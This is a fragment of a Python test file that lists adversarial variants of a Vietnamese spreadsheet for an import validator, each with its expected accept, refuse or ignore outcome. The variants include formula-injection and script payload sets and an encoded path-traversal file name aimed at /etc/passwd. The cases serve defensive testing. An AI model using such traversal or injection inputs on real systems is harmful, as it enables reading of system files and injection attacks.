    Kind("hidden-sheet", _hidden_sheet, READ, frozenset(), "the initiatives sheet hidden"),
    Kind("renamed-sheet", _renamed_sheet, REFUSED, frozenset({Code.MISSING_SHEET}), "the sheet renamed"),
    Kind("no-header", _no_header, REFUSED, frozenset({Code.MISSING_HEADER}), "the header row cleared"),
    Kind("no-rows", _no_rows, READ, frozenset({Code.NO_INITIATIVE}), "no initiative"),
    Kind(
        "huge-cell",
        _replace_cell("ten_sang_kien", _inline("Cải tiến " * 12_500), "inlineStr"),
        REFUSED,
        frozenset({Code.TOO_LONG}),
        "a 100,000-character title",
    ),
    Kind(
        "control-characters",
        _replace_cell("ten_sang_kien", _inline(CONTROL_TEXT), "inlineStr"),
        READ,
        frozenset({Code.TEXT_NORMALISED}),
        "control characters (Excel's _xHHHH_ escapes) and invisible ones",
    ),
    Kind(
        "formula-injection",
        lambda s, t: edit_cells(s, t, _every_text(FORMULA_PAYLOADS)),
        READ,
        frozenset(),
        "formula payloads in every text field",
    ),
    Kind(
        "script",
        lambda s, t: edit_cells(s, t, _every_text(SCRIPT_PAYLOADS)),
        READ,
        frozenset(),
        "markup in every text field",
    ),
    Kind("error-cells", _error_cells, REFUSED, frozenset({Code.CELL_ERROR}), "#DIV/0!, #REF!, #N/A"),
    Kind(
        "formula-no-value",
        _formula_without_value,
        REFUSED,
        frozenset({Code.FORMULA_NO_VALUE}),
        "formulas saved without their results",
    ),
    Kind(
        "formula-with-value",
        _replace_cell("gia_tri_lam_loi", "<f>1000000+500000</f><v>1500000</v>"),
        ACCEPTED,
        frozenset(),
        "a formula with its saved result",
    ),
    Kind("na-text", lambda s, t: edit_cells(s, t, _every_text(NA_TEXT)), READ, frozenset(), '"N/A", "null", "#N/A"'),
    Kind(
        "odd-unicode",
        lambda s, t: edit_cells(s, t, _title(ODD_UNICODE)),
        ACCEPTED,
        frozenset(),
        "emoji, Arabic, astral characters",
    ),
    Kind(
        "nfd-text",
        lambda s, t: edit_cells(s, t, _title(NFD_TEXT)),
        ACCEPTED,
        frozenset({Code.TEXT_NORMALISED}),
        "decomposed Vietnamese (macOS)",
    ),
    Kind(
        "tcvn3-text",
        lambda s, t: edit_cells(s, t, _title(TCVN3_TEXT)),
        ACCEPTED,
        frozenset({Code.LEGACY_TEXT}),
        "TCVN3 (ABC) font text",
    ),
    Kind("two-digit-year", _two_digit_year, REFUSED, frozenset({Code.TWO_DIGIT_YEAR}), "an ambiguous date"),
    Kind("far-dates", _far_dates, REFUSED, frozenset({Code.NOT_A_DATE}), "dates in the year 6046"),
    Kind("path-in-code", _path_in_code, REFUSED, frozenset({Code.UNKNOWN_UNIT}), "a path as the union's code"),
    # Tricks in the file's name (each file with a mistake: the union's feedback is named after it)
    Kind("name-reserved", _then(_two_digit_year, _renamed("CON.xlsx")), REFUSED, _DATE, "CON.xlsx"),
    Kind(
        "name-characters",
        _then(_two_digit_year, _renamed('Báo cáo <1>: "a|b"? *.xlsx')),
        REFUSED,
        _DATE,
        '<>:"|?* in the name',
    ),
    Kind(
        "name-long-nfd",
        _then(_two_digit_year, _renamed(_ends_name(LONG_NFD_NAME))),
        REFUSED,
        _DATE,
        "a 250-byte NFD name",
    ),
    Kind("name-dots", _then(_two_digit_year, _renamed("Báo cáo. .xlsx")), REFUSED, _DATE, "a trailing dot and space"),
    Kind(
        "name-traversal",
        _then(_two_digit_year, _renamed("%2E%2E%2F%2E%2E%2Fetc%2Fpasswd.xlsx")),
        REFUSED,
        _DATE,
        "an encoded path",
    ),
    Kind("name-hidden", _renamed("..xlsx"), frozenset({Status.IGNORED}), frozenset(), "a name that is only dots"),
    Kind("lock-file", _renamed("~$Báo cáo.xlsx"), frozenset({Status.IGNORED}), frozenset(), "an Office lock file"),
]
